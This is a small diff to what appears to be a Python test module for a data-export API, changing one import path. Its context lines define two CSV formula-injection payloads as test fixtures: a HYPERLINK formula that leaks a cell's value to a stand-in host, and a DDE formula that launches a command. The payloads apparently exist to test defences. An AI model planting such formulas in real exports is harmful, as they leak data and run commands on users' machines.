@@ -4,7 +4,7 @@ import csv
 import io
 import zipfile
 
-from tests.api.test_export import export_zip, read_export
+from tests.api.exports import export_zip, read_export
 
 HYPERLINK = '=HYPERLINK("http://x.test/?leak="&A1,"Asha")'
 DDE = "-2+3+cmd|' /C calc'!A0"
